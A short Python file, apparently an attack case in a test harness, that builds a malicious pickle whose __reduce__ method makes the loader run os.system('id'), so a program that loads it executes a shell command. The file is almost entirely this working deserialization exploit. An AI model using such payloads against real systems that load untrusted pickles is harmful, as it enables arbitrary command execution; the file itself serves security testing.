# /// attack
# tries = "Have a pickle loaded"
# by = "bytes that run when loaded"
# expect = ["WA structure"]
# ///
import os
import pickle


class Run:
    def __reduce__(self):
        return os.system, ("id",)


def solve(x):
    return pickle.dumps(Run())
